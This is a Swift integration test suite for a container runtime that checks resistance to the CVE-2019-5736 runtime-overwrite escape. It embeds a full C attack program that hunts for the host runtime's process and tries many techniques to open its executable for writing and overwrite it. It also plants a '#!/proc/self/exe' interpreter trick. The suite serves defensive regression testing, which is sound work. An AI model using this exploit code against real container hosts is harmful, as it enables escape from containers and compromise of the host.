import Foundation
import Glibc
import Testing

/// Overwriting the runtime's executable from inside a container (CVE-2019-5736), on a copy of it.
@Suite(.root, .tags(.integration))
struct ExecutableAttacks {
  /// Looks for processes whose executable is the host's runtime, for as many milliseconds as its third argument says, and
  /// tries every way to get a writable handle to it. Says `seen` for each process, and `writable` for each success.
  private static let overwriter = #"""
    #define _GNU_SOURCE
    #include <dirent.h>
    #include <errno.h>
    #include <fcntl.h>
    #include <linux/mount.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/mman.h>
    #include <sys/stat.h>
    #include <sys/syscall.h>
    #include <time.h>
    #include <unistd.h>
    int mount(const char *, const char *, const char *, unsigned long, const void *);
    static unsigned long long device, inode;
    static long long now(void) {
      struct timespec t;
      clock_gettime(CLOCK_MONOTONIC, &t);
      return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
    }
    static int write_to(const char *path, const char *how) {
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd < 0) fd = open(path, O_RDWR | O_CLOEXEC);
      struct stat status;
      // A path may lead to what the process has executed meanwhile.
      if (fd < 0 || fstat(fd, &status) || status.st_dev != device || status.st_ino != inode) {
        close(fd);
        return 0;
      }
      printf("writable %s\n", how);
      pwrite(fd, "#!/evil", 7, 0);
      close(fd);
      return 1;
    }
    static void attack(int fd, int pid) {
      char path[64], self[64];
      snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      write_to(path, "exe");
      write_to(self, "descriptor");
      struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
      if (!syscall(SYS_mount_setattr, fd, "", 0x1000, &clear, sizeof clear)) write_to(self, "mount_setattr");
      int tree = syscall(SYS_open_tree, fd, "", 0x1000 | 1 | O_CLOEXEC);
      if (tree < 0) tree = syscall(SYS_open_tree, -100, path, 1 | O_CLOEXEC);
      if (tree >= 0) {
        char name[64];
        syscall(SYS_mount_setattr, tree, "", 0x1000, &clear, sizeof clear);
        snprintf(name, sizeof name, "/proc/self/fd/%d", tree);
        write_to(name, "open_tree");
        close(tree);
      }
      close(open("/tmp/target", O_CREAT | O_WRONLY, 0600));
      if (!mount(self, "/tmp/target", NULL, 4096, NULL) || !mount(path, "/tmp/target", NULL, 4096, NULL)) {
        mount(NULL, "/tmp/target", NULL, 4096 | 32, NULL);
        write_to("/tmp/target", "bind mount");
        syscall(SYS_umount2, "/tmp/target", 2);
      }
      if (!linkat(fd, "", AT_FDCWD, "/tmp/hard", 0x1000)) write_to("/tmp/hard", "hard link");
      if (!chmod(self, 0777)) printf("writable mode\n");
      if (!chown(self, 1, 1)) printf("writable owner\n");
      if (!truncate(self, 1)) printf("writable truncate\n");
      char directory[64];
      snprintf(directory, sizeof directory, "/proc/%d/map_files", pid);
      DIR *maps = opendir(directory);
      struct dirent *entry;
      while (maps && (entry = readdir(maps))) {
        struct stat own, other;
        char file[512];
        snprintf(file, sizeof file, "%s/%s", directory, entry->d_name);
        if (entry->d_name[0] != '.' && !fstat(fd, &own) && !stat(file, &other) && own.st_ino == other.st_ino)
          write_to(file, "map_files");
      }
      if (maps) closedir(maps);
    }
    int main(int argc, char **argv) {
      device = strtoull(argv[1], 0, 10), inode = strtoull(argv[2], 0, 10);
      long long end = now() + atoll(argv[3]);
      int kept[64], count = 0;
      setvbuf(stdout, NULL, _IOLBF, 0);
      while (now() < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(proc))) {
          int pid = atoi(entry->d_name);
          char path[64];
          struct stat status;
          if (pid <= 0 || pid == getpid()) continue;
          snprintf(path, sizeof path, "/proc/%d/exe", pid);
          int fd = open(path, O_PATH | O_CLOEXEC);
          if (fd < 0) continue;
          // A copy in memory has another inode, but it is no program of the container's either.
          if (!fstat(fd, &status) && status.st_dev == device && status.st_ino == inode) {
            if (count < 64) {
              printf("seen %d\n", pid);
              attack(fd, pid);
              kept[count++] = fd;
              continue;
            }
          }
          close(fd);
        }
        closedir(proc);
        // What nobody executes any more is not ETXTBSY any more.
        for (int i = 0; i < count; i++) {
          char self[64];
          snprintf(self, sizeof self, "/proc/self/fd/%d", kept[i]);
          write_to(self, "kept descriptor");
        }
      }
      return 0;
    }
    """#

  /// A test with a copy of the runtime, `body` gets its path and the arguments for `overwrite`: at the end the copy must
  /// have its old content, mode and owner.
  private func withCopy(_ body: (TestContainer, _ runtime: String, _ identity: [String]) throws -> Void) throws {
    try withAttack { container, _ in
      // The name must not occur in what else the test leaves behind.
      let copy = container.path("runtime/swiftlet")
      try Host.makeDirectory(container.path("runtime"))
      try FileManager.default.copyItem(atPath: RuntimeUnderTest.path, toPath: copy)
      chmod(copy, 0o755)
      var before = stat()
      stat(copy, &before)
      try AttackProgram.install(Self.overwriter, "overwrite", in: container)
      container.setCapabilities(TestContainer.allCapabilities)
      container.config["linux"]["maskedPaths"] = []
      container.config["linux"]["readonlyPaths"] = []
      try container.writeConfig()
      defer {
        var after = stat()
        stat(copy, &after)
        #expect(FileManager.default.contentsEqual(atPath: copy, andPath: RuntimeUnderTest.path))
        #expect(after.st_mode == before.st_mode && after.st_uid == before.st_uid && after.st_size == before.st_size)
        // The test would have found out: the file can be written to on the host.
        #expect(access(copy, W_OK) == 0)
      }
      try body(container, copy, [String(before.st_dev), String(before.st_ino)])
    }
  }

  private func launch(_ container: TestContainer, _ runtime: String, _ arguments: [String]) throws -> RunningCommand {
    try container.launchOnHost(runtime, container.globalOptions + arguments)
  }

  /// The container's first process is the runtime until `start`.
  @Test func ofACreatedContainer() throws {
    try withCopy { container, runtime, identity in
      container.config["process"]["args"] = ["sleep", "100"]
      try container.writeConfig()
      let created = try launch(container, runtime, ["create", "--bundle", container.bundle, container.id])
      created.wait().expectSilentSuccess()
      let attack = try container.exec([], ["overwrite"] + identity + ["500"])
      #expect(attack.stdout.contains("seen 1\n"), "\(attack)")
      #expect(!attack.stdout.contains("writable"), "\(attack)")
      try container.start().expectSuccess()
    }
  }

  /// Processes of `exec`, while they join.
  @Test func ofExec() throws {
    try withCopy { container, runtime, identity in
      container.config["process"]["args"] = JSON(["overwrite"] + identity + ["4000"])
      try container.writeConfig()
      let attack = try launch(container, runtime, ["run", "--bundle", container.bundle, container.id])
      #expect(try eventually { try container.status() == "running" })
      var count = 0
      while try container.status() == "running", count < 300 {
        _ = try launch(container, runtime, ["exec", container.id, "true"]).wait()
        count += 1
      }
      let outcome = attack.wait().expectSuccess()
      #expect(outcome.stdout.contains("seen"), "\(count) times")
      #expect(!outcome.stdout.contains("writable"), "\(outcome)")
    }
  }

  /// A program of the image makes the runtime execute itself.
  @Test func asInterpreter() throws {
    try withCopy { container, runtime, identity in
      try Host.write("#!/proc/self/exe\n", to: container.rootfs + "/bin/evil", mode: 0o755)
      container.config["process"]["args"] = ["/bin/evil"]
      container.config["process"]["env"].append("_SWIFTLET_SEALED=1")
      try container.writeConfig()
      let run = try launch(container, runtime, ["run", "--bundle", container.bundle, container.id]).wait()
      #expect(run.exitCode != 0)

      container.config["process"]["args"] = JSON(["overwrite"] + identity + ["2000"])
      try container.writeConfig()
      let attack = try launch(container, runtime, ["run", "--bundle", container.bundle, container.id])
      #expect(try eventually { try container.status() == "running" })
      while try container.status() == "running" {
        _ = try launch(container, runtime, ["exec", container.id, "/bin/evil"]).wait()
      }
      let outcome = attack.wait().expectSuccess()
      #expect(outcome.stdout.contains("seen"))
      #expect(!outcome.stdout.contains("writable"), "\(outcome)")
    }
  }

  /// Whoever sets the mark of the seal himself gets no runtime without it.
  @Test(.ownTexts) func markInTheEnvironment() throws {
    try withCopy { container, runtime, identity in
      container.config["process"]["args"] = ["sleep", "100"]
      try container.writeConfig()
      let arguments = container.globalOptions + ["create", "--bundle", container.bundle, container.id]
      let created = try container.launchOnHost(
        runtime, arguments, .init(environment: ["_SWIFTLET_SEALED": "1"])
      ).wait()
      guard created.exitCode == 0 else { return }
      let attack = try container.exec([], ["overwrite"] + identity + ["300"])
      #expect(attack.stdout.contains("seen 1\n"), "\(attack)")
      #expect(!attack.stdout.contains("writable"), "\(attack)")
    }
  }
}
